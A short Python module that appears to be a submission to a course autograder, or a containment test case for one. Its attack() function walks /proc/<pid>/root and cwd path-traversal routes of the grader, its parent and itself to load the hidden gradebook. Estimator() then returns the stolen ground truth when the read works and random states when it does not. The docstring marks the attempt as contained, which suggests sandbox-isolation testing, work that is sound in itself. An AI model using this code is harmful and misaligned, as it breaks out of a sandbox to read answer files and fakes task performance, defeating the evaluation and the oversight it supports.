"""Reaches the gradebook through the root and working directories of the grader and the fork server in /proc.

Contained from tier 1.
"""

import os

import numpy as np

from course_lib.filters import Step

KNOWN = {}


def attack():
    for pid in (KNOWN["pid"], os.getppid(), "self"):
        for path in (
            f"/proc/{pid}/root{KNOWN['gradebook']}",
            f"/proc/{pid}/cwd/../../../../../../{KNOWN['gradebook']}",
        ):
            try:
                return np.load(path)
            except OSError:
                pass
    raise OSError


try:
    TRUTH = attack()
except Exception:
    TRUTH = None


def Estimator(previous, observation, control, constants, rng):
    step = 0 if previous is None else previous.memory + 1
    states = rng.uniform(0.0, constants.L, (500, 6)) if TRUTH is None else TRUTH[step : step + 1]
    return Step(states, step)
